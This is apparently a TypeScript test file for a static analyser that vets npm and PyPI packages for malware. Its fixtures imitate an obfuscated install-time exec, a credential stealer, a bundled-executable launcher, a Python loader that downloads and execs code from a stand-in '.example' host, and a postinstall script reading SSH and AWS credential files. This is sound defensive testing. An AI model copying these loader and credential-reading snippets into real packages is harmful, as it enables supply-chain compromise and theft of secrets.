import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { StaticAnalysis } from '@vetbox/contracts';
import { bundledPeLauncher, fakePe, obfuscatedSetupPy, remoteLoader, windowsStealer, writeFixtureArchive } from './__fixtures__/imitation.js';
import { staticPass } from './pass.js';

let dir = '';
beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'vetbox-static-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function run(fx: Parameters<typeof writeFixtureArchive>[1], ecosystem: 'npm' | 'pypi') {
  const archivePath = await writeFixtureArchive(dir, fx, ecosystem);
  const result = await staticPass({ ecosystem, name: fx.name, archivePath });
  return StaticAnalysis.parse(result);
}

const kinds = (r: StaticAnalysis) => r.signals.map((s) => `${s.kind}@${s.file}:${s.line}`);

describe('static pass on the imitation fixtures', () => {
  it('an obfuscated setup.py: exec of zlib(base64(reversed)) located, the hidden payload decoded and read', async () => {
    const r = await run(obfuscatedSetupPy(), 'pypi');
    expect(r.entryPoints).toContain('setup.py');
    const exec = r.signals.find((s) => s.kind === 'exec-decoded')!;
    expect(exec).toMatchObject({ file: 'setup.py', line: 2, reach: ['install'] });
    expect(exec.decoded?.transforms).toEqual(['reverse', 'base64', 'zlib']);
    expect(exec.decoded?.preview).toContain('import browser_cookie_vault');
    expect(exec.snippet).toContain('exec((_)(b');
    expect(kinds(r)).toContain('obfuscated@setup.py:2');
    // What the decoded layer does, located at the blob that hides it.
    const inner = r.signals.find((s) => s.kind === 'credential-path')!;
    expect(inner).toMatchObject({ file: 'setup.py', line: 2, layerDepth: 1, target: 'ssh' });
  });

  it('a Windows-only stealer: Discord and browser paths, the webhook, and the platform gate', async () => {
    const r = await run(windowsStealer(), 'pypi');
    const file = 'wincred_demo/__init__.py';
    expect(r.signals.filter((s) => s.kind === 'credential-path').map((s) => s.target).sort()).toEqual(['browser', 'discord']);
    expect(r.signals.find((s) => s.kind === 'exfil-endpoint')).toMatchObject({ file, line: 6, reach: ['import'] });
    expect(r.signals.find((s) => s.kind === 'platform-gate')).toMatchObject({ file, line: 3 });
  });

  it('an npm postinstall that launches a bundled PE', async () => {
    const r = await run(bundledPeLauncher(), 'npm');
    expect(r.signals.find((s) => s.kind === 'bundled-executable')).toMatchObject({ file: 'bin/updater.exe', format: 'pe' });
    expect(r.signals.find((s) => s.kind === 'launches-bundled-executable')).toMatchObject({ file: 'install.js', line: 3, reach: ['install'] });
  });

  it('a loader that exec()s text downloaded from a .example URL', async () => {
    const r = await run(remoteLoader(), 'pypi');
    const s = r.signals.find((x) => x.kind === 'exec-fetched')!;
    expect(s).toMatchObject({ file: 'remote_exec_demo/__init__.py', line: 3, reach: ['import'] });
    expect(s.urls).toContain('http://cdn.loader.example/stage2.py');
  });
});

describe('a name appended to after it was bound', () => {
  it('Python: `code += chunk` keeps what the start said: decoded code with more appended is still exec of decoded data', async () => {
    const fx = remoteLoader('appended-exec-demo');
    fx.files['appended_exec_demo/__init__.py'] = [
      'import base64, sys',
      `code = base64.b64decode('${Buffer.from('print(1)').toString('base64')}').decode()`,
      "code += '\\n' + sys.argv[0]",
      'exec(code)',
      '',
    ].join('\n');
    const r = await run(fx, 'pypi');
    expect(r.signals.find((x) => x.kind === 'exec-decoded'), JSON.stringify(r.signals)).toMatchObject({ file: 'appended_exec_demo/__init__.py', line: 4 });
  });
});

describe('Python: exec of code read in chunks from the network', () => {
  const loader = (body: string[]) => {
    const fx = remoteLoader('chunked-exec-demo');
    fx.files['chunked_exec_demo/__init__.py'] = [...body, ''].join('\n');
    return run(fx, 'pypi');
  };

  it('inside a function that reads the network, exec of what it appended is exec of fetched data', async () => {
    const r = await loader([
      'import urllib.request',
      'def update():',
      '    code = ""',
      "    r = urllib.request.urlopen('http://cdn.loader.example/stage2.py', timeout=5)",
      "    for chunk in iter(lambda: r.read(1024), b''):",
      '        code += chunk.decode()',
      '    exec(code)',
      'update()',
    ]);
    expect(r.signals.find((x) => x.kind === 'exec-fetched'), JSON.stringify(r.signals)).toMatchObject({ file: 'chunked_exec_demo/__init__.py', line: 7 });
  });

  it("a function that downloads a file and execs a local file's text is not a loader", async () => {
    const r = await loader([
      'import urllib.request',
      'def build():',
      "    urllib.request.urlretrieve('https://github.com/o/r/releases/download/v1/tool.tar.gz', 'tool.tar.gz')",
      '    ns = {}',
      "    exec(open('chunked_exec_demo/version.py').read(), ns)",
      '    return ns',
    ]);
    expect(r.signals.filter((x) => x.kind === 'exec-fetched')).toEqual([]);
  });
});

describe('credential paths written as separate path segments', () => {
  // A small file with no other token: the cheap filter must still send it to the parser.
  it("JavaScript: path.join(homedir(), '.ssh', 'id_rsa') and '.aws', 'credentials' are located", async () => {
    const index = [
      "const os = require('os'); const path = require('path'); const fs = require('fs');",
      "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');",
      "const aws = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');",
      'module.exports = { key, aws };',
    ].join('\n');
    const pkg = JSON.stringify({ name: 'split-paths-demo', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node index.js' } });
    const r = await run({ name: 'split-paths-demo', version: '1.0.0', files: { 'package.json': pkg, 'index.js': index } }, 'npm');
    expect(r.signals.filter((s) => s.kind === 'credential-path').map((s) => `${s.target}@${s.file}:${s.line}`)).toEqual(['ssh@index.js:2', 'cloud@index.js:3']);
  });
});

describe('static pass on an unpacked directory: every file checked for executables by its bytes', () => {
  it('finds executables under any name, in the closure (read whole) or not, and the install script that launches one', async () => {
    const pkg = path.join(dir, 'exe-names');
    await mkdir(path.join(pkg, 'img'), { recursive: true });
    await mkdir(path.join(pkg, 'bin'), { recursive: true });
    const elf = Buffer.alloc(64);
    elf.write('\x7fELF', 0, 'latin1');
    elf[4] = 2;
    elf[5] = 1;
    elf.writeUInt16LE(2, 16);
    const manifest = { name: 'exe-names', version: '1.0.0', main: 'index.js', bin: { tool: 'bin/tool' }, scripts: { postinstall: './bin/tool --setup' } };
    await writeFile(path.join(pkg, 'package.json'), JSON.stringify(manifest));
    await writeFile(path.join(pkg, 'index.js'), "module.exports = require('./lib');\n");
    await writeFile(path.join(pkg, 'lib.js'), "require('child_process').spawn(__dirname + '/img/logo.png');\n");
    // An extensionless entry point is read whole as code: its head comes from that read.
    await writeFile(path.join(pkg, 'bin/tool'), elf);
    await writeFile(path.join(pkg, 'img/logo.png'), fakePe());
    await writeFile(path.join(pkg, 'img/empty.png'), '');
    await writeFile(path.join(pkg, 'img/m.png'), 'M');
    const r = StaticAnalysis.parse(await staticPass({ ecosystem: 'npm', name: 'exe-names', packageDir: pkg }));
    expect(r.entryPoints).toContain('bin/tool');
    expect(r.signals.filter((s) => s.kind === 'bundled-executable').map((s) => `${s.file}:${s.format}`)).toEqual(['bin/tool:elf', 'img/logo.png:pe']);
    expect(r.signals.filter((s) => s.kind === 'launches-bundled-executable').map((s) => `${s.file}:${s.format}`)).toEqual(['package.json:elf', 'lib.js:pe']);
  });
});
